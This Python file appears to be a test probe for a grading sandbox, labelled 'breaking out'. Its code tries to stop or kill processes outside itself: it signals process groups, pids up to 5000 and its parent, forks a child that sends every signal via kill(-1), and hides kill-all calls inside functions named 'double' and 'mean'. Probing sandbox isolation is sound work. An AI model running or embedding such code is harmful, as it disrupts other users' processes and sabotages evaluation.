# ruff: noqa
"""Sends every signal to every process, to groups, and to all at once."""

FAMILY = "breaking out"
MAY_PASS = []
MUST_NOT = "A process outside the sandbox ends, stops or is disturbed, or the grading of others ends with it."

# %%
import os
import signal

# To signal one of its threads is to signal the process.
threads = {int(name) for name in os.listdir("/proc/self/task")}
QUIET = {0, signal.SIGSTOP, signal.SIGTSTP, signal.SIGCHLD, signal.SIGURG}


def strike():
    for pid in (*range(-300, 0), *range(2, 5000), os.getppid()):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            if pid not in {-1, 0, -os.getpid(), -os.getpgid(0)} | threads:
                try:
                    os.kill(pid, number)
                    print("reached", pid, number)
                except OSError:
                    pass


strike()
for number in set(signal.Signals) - QUIET:
    signal.signal(number, signal.SIG_IGN) if number not in (signal.SIGKILL, signal.SIGSTOP) else None
# Whoever sends a signal to all is left out himself.
if os.fork() == 0:
    os.setsid()
    for number in sorted(set(signal.Signals) - QUIET - {signal.SIGKILL}) + [signal.SIGKILL]:
        try:
            os.kill(-1, number)
        except OSError:
            pass
    os._exit(0)


def double(x):
    os.kill(-1, signal.SIGKILL)
    return x


def mean(x):
    os.killpg(0, signal.SIGKILL)
    return 0.0
